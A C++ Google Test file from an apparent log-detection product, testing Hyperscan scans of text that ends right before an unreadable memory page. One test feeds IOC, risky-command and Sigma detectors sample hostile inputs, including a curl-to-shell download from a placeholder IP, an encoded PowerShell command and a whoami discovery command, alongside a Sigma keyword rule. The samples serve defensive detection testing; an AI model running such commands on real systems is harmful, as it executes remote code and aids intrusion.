// Hyperscan scans of data that ends right before an unmapped page
// (core/hs_scan.h): Hyperscan 5.4.0's AVX512VBMI literal matcher reads past
// the end of the data, so every scan in the product goes through ScanPadded
// or a buffer with room after the text. Each case puts its text at the very
// end of a readable page followed by a PROT_NONE page and compares the result
// with the same text in ordinary memory.
#include "core/hs_scan.h"

#include <gtest/gtest.h>
#include <sys/mman.h>
#include <unistd.h>

#include <algorithm>
#include <cstring>
#include <string>
#include <vector>

#include "detectors/builtin/risky_command.h"
#include "detectors/ioc/ioc_extractor.h"
#include "detectors/rules/sigma_ruleset.h"

namespace loghunt {
namespace {

// `text` copied to the end of a readable page whose next page faults.
class GuardedText {
 public:
  explicit GuardedText(std::string_view text) {
    page_ = static_cast<size_t>(sysconf(_SC_PAGESIZE));
    size_ = (text.size() / page_ + 2) * page_;
    void* p = mmap(nullptr, size_, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) std::abort();
    base_ = static_cast<char*>(p);
    if (mprotect(base_ + size_ - page_, page_, PROT_NONE) != 0) std::abort();
    char* start = base_ + size_ - page_ - text.size();
    std::memcpy(start, text.data(), text.size());
    view_ = std::string_view(start, text.size());
  }
  ~GuardedText() { munmap(base_, size_); }
  GuardedText(const GuardedText&) = delete;
  GuardedText& operator=(const GuardedText&) = delete;
  std::string_view view() const { return view_; }

 private:
  char* base_ = nullptr;
  size_t size_ = 0, page_ = 0;
  std::string_view view_;
};

int Count(unsigned, unsigned long long, unsigned long long, unsigned, void* ctx) {
  ++*static_cast<int*>(ctx);
  return 0;
}

// The pattern set and text of VectorCamp/vectorscan#322 (fat teddy).
const char* const kPattern = "bat|cat|mat|rat|fat|sat|pat|hat|vat";
const char* const kText = "VAt hat pat sat fat rat mat ca";

struct Database {
  hs_database_t* db = nullptr;
  hs_scratch_t* scratch = nullptr;
  Database() {
    hs_compile_error_t* err = nullptr;
    if (hs_compile(kPattern, HS_FLAG_CASELESS, HS_MODE_BLOCK, nullptr, &db, &err) != HS_SUCCESS) {
      std::abort();
    }
    if (hs_alloc_scratch(db, &scratch) != HS_SUCCESS) std::abort();
  }
  ~Database() {
    hs_free_scratch(scratch);
    hs_free_database(db);
  }
};

TEST(HsScan, CopiesOnlyDataThatEndsNearAPageEnd) {
  GuardedText at_end(kText);
  EXPECT_TRUE(HsScanNeedsCopy(at_end.view()));
  std::string padded = std::string(kText) + std::string(2048, ' ');  // kText ends mid-page
  GuardedText mid(padded);
  EXPECT_FALSE(HsScanNeedsCopy(mid.view().substr(0, std::strlen(kText))));
  EXPECT_TRUE(HsScanNeedsCopy(std::string_view()));
}

TEST(HsScan, ScanPaddedAtAPageEndMatchesLikeAnywhere) {
  Database d;
  int expected = 0;
  std::string ordinary(kText);
  ASSERT_EQ(hs_scan(d.db, ordinary.data(), static_cast<unsigned>(ordinary.size()), 0, d.scratch,
                    Count, &expected),
            HS_SUCCESS);
  EXPECT_EQ(expected, 7);
  GuardedText guarded(kText);
  std::string copy;
  int found = 0;
  EXPECT_EQ(ScanPadded(d.db, guarded.view(), d.scratch, Count, &found, &copy), HS_SUCCESS);
  EXPECT_EQ(found, expected);
  found = 0;
  EXPECT_EQ(ScanPadded(d.db, std::string_view(), d.scratch, Count, &found, &copy), HS_SUCCESS);
  EXPECT_EQ(found, 0);
}

// Documents why: where the CPU has AVX512VBMI, the library itself faults.
TEST(HsScanDeathTest, PlainScanAtAPageEndFaultsOnAvx512Vbmi) {
  if (!__builtin_cpu_supports("avx512vbmi")) GTEST_SKIP() << "no AVX512VBMI on this CPU";
  GTEST_FLAG_SET(death_test_style, "threadsafe");
  EXPECT_DEATH(
      {
        Database d;
        GuardedText guarded(kText);
        int found = 0;
        hs_scan(d.db, guarded.view().data(), static_cast<unsigned>(guarded.view().size()), 0,
                d.scratch, Count, &found);
      },
      "");
}

// The product's scans on values that end at a page end.
TEST(HsScan, DetectorsScanValuesAtAPageEnd) {
  const std::vector<std::string> texts = {
      kText,
      "curl -s http://203.0.113.7/i.sh | sh",
      "powershell -enc aHR0cDovLzE5OC41MS4xMDAuMi94 hat pat sat fat rat mat ca",
      "cmd.exe /c whoami /all",
  };
  IocExtractor extractor;
  RiskyCommandDetector risky;
  SigmaFieldMapping mapping;
  std::vector<std::string> errors;
  ASSERT_TRUE(LoadSigmaMapping("", &mapping, &errors));
  SigmaLoadReport report;
  std::string error;
  auto rules = SigmaRuleSet::FromTexts(
      {"title: t\nid: r1\nlogsource: {product: windows, category: process_creation}\n"
       "detection:\n  s: {CommandLine|contains|cased: [bat, cat, mat, rat, fat, sat, pat, hat, "
       "whoami, curl]}\n  condition: s\n"},
      {}, mapping, &report, &error);
  ASSERT_NE(rules, nullptr) << error;
  SigmaMatcher matcher(rules);
  for (const std::string& text : texts) {
    GuardedText guarded(text);
    std::vector<size_t> first;  // results on the ordinary copy
    for (std::string_view view : {std::string_view(text), guarded.view()}) {
      SCOPED_TRACE(text + (view.data() == text.data() ? " (ordinary)" : " (at a page end)"));
      Arena arena;
      std::vector<Ioc> iocs;
      extractor.Extract(view, arena, &iocs);
      Event event;
      event.stream = Stream::kWinevent;
      event.kind = EventKind::kProcessStart;
      event.process.command_line = view;
      event.extras = {{"CommandLine", view}};
      std::vector<Alert> alerts;
      risky.Inspect(event, alerts);
      std::vector<uint32_t> matched;
      matcher.Match(event, &matched);
      std::vector<size_t> now = {iocs.size(), alerts.size(), matched.size()};
      if (view.data() == text.data()) {
        first = now;
      } else {
        EXPECT_EQ(now, first);
      }
    }
  }
}

}  // namespace
}  // namespace loghunt
